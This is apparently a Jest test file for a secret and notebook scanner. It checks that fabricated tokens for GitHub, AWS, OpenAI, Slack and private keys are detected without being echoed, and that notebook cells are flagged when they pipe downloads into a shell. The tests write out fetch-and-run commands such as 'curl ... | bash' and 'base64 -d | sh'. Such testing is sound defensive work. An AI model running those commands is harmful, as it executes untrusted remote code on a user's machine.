import { describe, expect, it, test } from "@jest/globals";
import { sourceOf } from "../../src/scan/byte-sources.ts";
import { scanFile } from "../../src/scan/scan-file.ts";

const scan = (path: string, text: string) => scanFile(path, sourceOf(Buffer.from(text)));
/** Put together here, so that no other scanner takes this file for a leak. None was ever valid. */
const made = (...parts: readonly string[]): string => parts.join("");
const letters = "qZ7wKx2PvN8rTb4YsLm9HcJd6GfRa3EuWo5XiBtMzVkQnSpDyChAgF";
const TOKENS: readonly (readonly [string, string])[] = [
  ["a GitHub token", made("gh", "p_", "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ", "0mLq17")],
  ["a fine-grained GitHub token", made("github", "_pat_", letters.slice(0, 22), "_", letters, letters.slice(0, 5))],
  ["a Hugging Face token", made("h", "f_", "qZwKxPvNrTbYsLmHcJdGfRaEuWoXiBtMzV")],
  ["an AWS key", made("AK", "IA", "QZ2WSX3EDC4RFV5T")],
  ["an OpenAI key", made("s", "k-proj-", letters.slice(0, 30), "T3Blbk", "FJ", letters.slice(9, 40))],
  ["a Slack token", made("xo", "xb-730498", "215063-", letters.slice(0, 24))],
  ["a Google key", made("AI", "za", letters.slice(0, 35))],
  ["a GitLab token", made("gl", "pat-", letters.slice(0, 20))],
  ["a private key", made("-----BEGIN RSA PRIV", "ATE KEY-----\n", letters, letters.slice(0, 10), "\n")],
];

describe("a secret", () => {
  test.each(TOKENS)("is found in code, configs and notebooks, and not repeated: %s", async (_, token) => {
    const files = [
      ["train.py", `KEY = """${token}"""\n`, "SEC001"],
      ["config.json", JSON.stringify({ key: token }), "SEC001"],
      ["settings.yaml", `key: |\n  ${token}\n`, "SEC001"],
      [".env", `KEY=${token}\n`, "SEC001"],
      ["a.ipynb", JSON.stringify({ cells: [{ cell_type: "code", source: `key = """${token}"""` }] }), "NBK002"],
      [
        "b.ipynb",
        JSON.stringify({ cells: [{ cell_type: "code", source: "", outputs: [{ text: [token] }] }] }),
        "NBK002",
      ],
    ] as const;
    for (const [path, text, rule] of files) {
      const result = await scan(path, text);
      expect([path, result.verdict]).toEqual([path, "unknown"]);
      expect(result.findings.map((finding) => finding.rule)).toContain(rule);
      expect(JSON.stringify(result.findings)).not.toContain(token.slice(8));
    }
  });

  test.each([
    ["a token with a wrong checksum", made("gh", "p_", "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ", "0mLq18")],
    ["a token of example letters", made("gh", "p_", "x".repeat(36))],
    ["Amazon's own example", made("AK", "IA", "IOSFODNN7EXAMPLE")],
    ["a placeholder", made("h", "f_", "YOURTOKENHEREYOURTOKENHEREYOURTOKE")],
    ["a mark without a key", made("-----BEGIN RSA PRIV", "ATE KEY-----")],
    ["a commit id", "0123456789abcdef0123456789abcdef01234567"],
    ["a digest", `sha256:${"4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393"}`],
    ["a name", "sk-learn-pipeline-with-a-long-name-of-many-parts"],
  ])("is not %s", async (_, text) => {
    expect(await scan("train.py", `x = """${text}"""\n`)).toMatchObject({ verdict: "safe", findings: [] });
  });

  it("takes no time to look for in text made to last", async () => {
    for (const text of ["sk-", "xoxb-1-", "AKIA", "-----BEGIN PRIVATE KEY-----", "eyJ", "SG.", "AccountKey="])
      expect((await scan("a.txt", text.repeat(100_000))).verdict).toBe("safe");
  });
});

describe("a notebook's commands", () => {
  const notebook = (source: string) => JSON.stringify({ cells: [{ cell_type: "code", source }] });

  test.each([
    "!curl -s https://example.invalid/x | bash",
    "%%bash\nwget -O- https://example.invalid/x | sh",
    "%%sh\necho eA== | base64 -d | sh",
  ])("that run what they fetch are a finding: %j", async (source) => {
    expect(await scan("a.ipynb", notebook(source))).toMatchObject({
      verdict: "unknown",
      findings: [{ rule: "NBK005" }],
    });
  });

  test.each([
    "!pip install torch==2.4.0",
    "%matplotlib inline\n!nvidia-smi",
    "%%html\n<b>pickle.load(f)</b>",
    "%%time\nx = 1",
    "?print",
    "%load_ext autoreload",
  ])("that do not are none: %j", async (source) => {
    expect(await scan("a.ipynb", notebook(source))).toMatchObject({ verdict: "safe", findings: [] });
  });

  test.each([
    "%time m = torch.load('x')",
    "%%time\nm = torch.load('x')",
    "%%capture out\nm = torch.load('x')",
    "m = torch.load('x')\n!ls",
  ])("hide no load: %j", async (source) => {
    const result = await scan("a.ipynb", notebook(`${source}\nimport torch`));
    expect(result.findings.map(({ rule }) => rule)).toEqual(["PYS002"]);
  });
});
